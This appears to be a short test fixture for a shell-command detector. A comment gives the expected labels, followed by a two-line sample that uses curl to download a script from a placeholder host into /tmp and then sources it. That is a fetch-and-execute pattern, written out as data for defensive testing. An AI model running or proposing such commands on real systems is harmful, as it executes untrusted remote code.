# want: sh.exec.source-download sh.network.tool
curl -o /tmp/env.sh https://example.invalid/env.sh
. /tmp/env.sh
